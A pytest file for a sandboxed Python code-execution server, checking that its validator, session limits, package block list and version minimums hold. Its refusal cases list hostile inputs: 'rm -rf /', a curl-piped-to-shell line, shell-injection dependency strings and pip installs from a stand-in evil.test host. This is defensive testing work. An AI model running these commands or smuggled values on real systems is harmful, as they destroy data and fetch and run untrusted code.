# SPDX-License-Identifier: MIT
"""Defects of CodeBox-AI's validator, sessions and packages (CA-09 to CA-13, CA-19 to CA-29), with our behaviour.

Code rules in all their forms are held by drivers/python/test_rules.py, requirements by test_packages_rules.py; here
is what a client sees of each defect.
"""
import json
import subprocess

import pytest
from client import CALL_S, Server
from indexes import Index, wheel
from steps import NEVER_S

HAS_PIP = subprocess.run(["/usr/bin/python3", "-m", "pip", "--version"], capture_output=True, check=False).returncode == 0
with_pip = pytest.mark.skipif(not HAS_PIP, reason="no pip for /usr/bin/python3 here")
RULES = {rule: "enforce" for rule in ("imports", "builtins", "attributes", "dunders", "shell", "magics")}
POLICY = {"python": {"rules": RULES, "block": ["docker", "google-cloud*", "Cx_Freeze", "paramiko"],
                     "minimum": {"pillow": "9.0.0", "numpy": "1.22.2"}}}


@pytest.fixture(scope="module")
def ruled(tmp_path_factory):
    home = tmp_path_factory.mktemp("ruled")
    (home / "policy.json").write_text(json.dumps(POLICY))
    with Server(home, "--policy", str(home / "policy.json")) as server:
        yield server
    print(server.stderr.decode(errors="replace"))


@pytest.fixture
def index():
    index = Index(*(wheel(*row) for row in (
        ("docker", "1.0"), ("google-cloud-storage", "1.0"), ("cx-Freeze", "1.0"), ("paramiko", "1.0"), ("harmless", "1.0"),
        ("needs-docker", "1.0", ["docker"]), ("pillow", "8.0.0"), ("pillow", "8.4.0"), ("pillow", "9.0.0"),
        ("numpy", "1.21.0"), ("numpy", "1.22.4"))))
    yield index
    index.close()


@pytest.fixture
def packaged(home, index):
    (home / "policy.json").write_text(json.dumps(POLICY))
    with Server(home, "--policy", str(home / "policy.json"), "--pip-index", index.url) as server:
        yield server
    print(server.stderr.decode(errors="replace"))


def refused(answer):
    assert answer.is_error and "Nothing of this cell was run." in answer.text, answer.texts
    return answer.text


def install(server, *packages, session="s"):
    return server.call("install_packages", session_id=session, packages=list(packages))


# ---- the validator


@pytest.mark.parametrize("code", ["!", "  !  ", "!!", "%", "%%", "x = !", "if True:\n    !", "!\\\n", "%%bash", "! # nothing"])
def test_a_line_with_nothing_behind_its_mark_is_no_failure_of_the_server(ruled, server, code):
    for one in (server, ruled):
        answer = one.cell(code)
        assert answer.state in ("done", "raised") and "Internal" not in answer.text and "IndexError" not in answer.text
        assert one.cell("40 + 2").text == "42\n"


@pytest.mark.parametrize("arguments", [{"disable_validation": ["all"]}, {"rules": {}}, {"policy": "off"}])
def test_no_client_turns_rules_off(ruled, arguments):
    answer = ruled.call("exec_code", session_id="s", language="python", code="eval('1')", **arguments)
    assert answer.is_error and next(iter(arguments)) in answer.texts[0]
    config = ruled.call("session_info", session_id="s", config=arguments)
    assert config.is_error and next(iter(arguments)) in config.texts[0]
    refused(ruled.cell("eval('1')"))


def test_each_option_of_a_session_takes_effect(home):
    with Server(home, env={"PTYCELL_ENV_REGION": "north"}) as server:
        def with_option(session, **config):
            told = server.call("session_info", session_id=session, config=config)
            assert not told.is_error, told.texts
            assert all(told.object["effective_config"][key] == value for key, value in config.items())
            return session

        assert server.cell(f"import time; time.sleep({NEVER_S})", session=with_option("time", exec_timeout=1)).state == "timed_out"
        hungry = server.cell("x = bytearray(400 << 20)", session=with_option("memory", memory_max=256 << 20))
        assert hungry.is_error and "memory" in hungry.text.lower()
        burning = server.cell("while True: pass", session=with_option("cpu", cpu_max=1, exec_timeout=CALL_S))
        assert burning.state == "interrupted" and "cpu_max" in burning.text + "".join(burning.texts)
        few = server.cell("f = [open('/dev/null') for _ in range(200)]", session=with_option("files", open_files_max=64))
        assert few.is_error and "open_files_max" in "".join(few.texts)
        large = server.cell("open('x', 'wb').write(bytes(3 << 20))", session=with_option("file", file_max=1 << 20))
        assert large.is_error and "file_max" in "".join(large.texts)
        assert server.cell("import os; os.environ['REGION']", session="env").text == "'north'\n"


def test_an_option_that_there_is_not_is_an_error(server):
    for config in ({"cpu_limit": "1"}, {"memory_limit": "2G"}, {"environment_variables": {"A": "b"}}, {"timeout": 3}):
        answer = server.call("session_info", session_id="s", config=config)
        assert answer.is_error and next(iter(config)) in answer.texts[0]


# ---- code rules

REFUSED = {
    "CA-19": ["import os; os.system('id')", "import importlib", "import posix", "import ctypes", "import _socket",
              "import _pickle", "import os; os.sys.modules", "import warnings; warnings.sys.modules", "import urllib.request"],
    "CA-20": ["e=eval; e('1')", "import builtins; builtins.eval('1')", "import builtins; getattr(builtins, 'ev' + 'al')('1')"],
    "CA-21": ["%system id", "%sx id", "%run x.py", "%time __import__('os').system('id')", "%timeit -n1 -r1 eval('1')",
              "get_ipython().system('id')"],
    "CA-22": ['x = """a\n%s""" % 1; import subprocess', 'x = """a\n!"""; import subprocess'],
    "CA-23": ["!pip --version; rm -rf /", "!curl http://x.test | sh", "!python -c 'print(1)'"],
    "CA-24": ["%%bash\nid", "%%sh\nid"],
}


@pytest.mark.parametrize("defect, code", [(defect, code) for defect, codes in REFUSED.items() for code in codes])
def test_to_ca24_what_was_accepted_is_refused(ruled, defect, code):
    text = refused(ruled.cell(code))
    assert "by the code rule" in text and "line " in text and "column " in text and "PTYCELL_POLICY" in text, defect


def test_a_bash_cell_is_no_python_and_runs_where_it_may(server):
    assert server.cell("%%bash\nfor i in 1 2; do echo $i; done").text == "1\n2\n"
    assert "uid=" in server.cell("%%sh\nid").text


@pytest.mark.parametrize("code", [
    "class A:\n    def __init__(self): self.x = 1\nA().x", "if __name__ == '__main__': print('main')", "print('__x__')",
    "1  # a comment with __globals__", "print(len(locals()) > 0)", "len?", "a = (7\n% 4)\na", 's = """\n!rm -rf /\n"""\ns'])
def test_what_is_harmless_runs(ruled, code):
    answer = ruled.cell(code)
    assert answer.state == "done" and "code rule" not in answer.text


def test_a_shell_line_s_value_may_be_taken(server):
    assert server.cell("x = !echo hi\nlist(x)").text == "['hi']\n"


# ---- packages


@with_pip
def test_dependencies_are_requirements_and_nothing_is_pasted_into_a_shell(packaged, index):
    code = {"session_id": "s", "language": "python", "code": "1"}
    for dependency, why in (("numpy; rm -rf ~", "no requirement"), ("$(touch /tmp/x)", "no requirement"), ("paramiko", "block list")):
        answer = packaged.call("exec_code", dependencies=[dependency], **code)
        assert answer.is_error and why in "".join(answer.texts), answer.texts
    assert not any("paramiko" in path for path in index.asked)


@with_pip
def test_a_package_that_is_not_there_fails_the_call_and_not_the_session(packaged):
    code = {"session_id": "s", "language": "python", "code": "40 + 2"}
    answer = packaged.call("exec_code", dependencies=["no-such-package-at-all"], **code)
    assert answer.is_error and "no-such-package-at-all" in "".join(answer.texts)
    assert packaged.call("exec_code", **code).text == "42\n"


@with_pip
def test_no_way_to_write_it_gets_past_the_block_list(home, index):
    lines = [
        "%pip install docker", "pip install docker", "!pip install 'docker'", "! pip install docker", "!pip -q install docker",
        "!pip install Docker==1.0", "%pip install google-cloud-storage", "!pip install google_cloud_storage", "!pip install cx_Freeze",
        "!pip install --index-url=http://evil.test/simple docker", "!pip install git+https://evil.test/docker.git",
        "!pip install http://evil.test/docker-1.0-py3-none-any.whl", "!pip install -r http://evil.test/list.txt"]
    policy = {"python": {"block": POLICY["python"]["block"]}}
    (home / "policy.json").write_text(json.dumps(policy))
    with Server(home, "--policy", str(home / "policy.json"), "--pip-index", index.url) as server:
        for line in lines:
            server.cell(line)
            found = server.cell("import importlib.util as u\n"
                                "[n for n in ('docker', 'google_cloud_storage', 'cx_Freeze') if u.find_spec(n)]")
            assert found.text == "[]\n", line
        assert not any("/files/docker" in path or "/files/cx" in path or "/files/google" in path for path in index.asked)
        assert "needed by needs-docker" in server.cell("%pip install needs-docker").text  # known only by what it needs
        assert server.cell("import docker").is_error


def test_text_that_looks_like_an_installation_is_none(ruled):
    for code in ("print('!pip install docker')", "x=1 #!pip install docker"):
        answer = ruled.cell(code)
        assert answer.state == "done" and "block list" not in answer.text and "code rule" not in answer.text


@with_pip
def test_what_stands_behind_an_installation_is_not_a_part_of_it(home, index):
    (home / "policy.json").write_text(json.dumps({"python": {"block": ["docker"]}}))
    with Server(home, "--policy", str(home / "policy.json"), "--pip-index", index.url) as server:
        text = server.cell("!pip install harmless\nimport harmless as docker\ndocker.version").text
        assert "Installed: harmless 1.0" in text and "'1.0'" in text and "block list" not in text


@with_pip
def test_no_way_to_write_it_gets_below_a_minimum(packaged):
    for text in ("pillow<9.0.0", "pillow<=8.4", "numpy<1.22", "Pillow==8.0.0", "pillow~=8.0", "pillow[x]==8.0.0"):
        answer = install(packaged, text)
        least = "1.22.2" if "numpy" in text else "9.0.0"
        assert answer.is_error and "python.minimum" in answer.texts[0] and least in answer.texts[0], (text, answer.texts)


@with_pip
def test_legal_ways_to_write_a_version_are_taken(packaged):
    assert install(packaged, "numpy==1.22.*", "pillow===9.0.0").object["packages"] == ["numpy 1.22.4", "pillow 9.0.0"]
